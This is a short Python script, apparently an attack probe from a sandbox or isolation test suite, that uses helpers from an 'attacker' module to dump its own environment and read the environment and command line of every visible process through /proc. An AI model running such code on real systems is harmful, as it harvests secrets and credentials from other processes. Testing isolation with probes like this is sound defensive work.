"""Reads the environment and the command line of every process it can find."""

import os

from attacker import host, show, steal, tried

UNPROTECTED = "escapes"

tried("/proc/*/environ")
show(repr(dict(os.environ)).encode())
pids = {name for name in os.listdir("/proc") if name.isdigit()}
for pid in pids | {str(host["victim"]), str(host["caller"]), "1", "self"}:
    steal(f"/proc/{pid}/environ", 65536)
    steal(f"/proc/{pid}/cmdline", 65536)
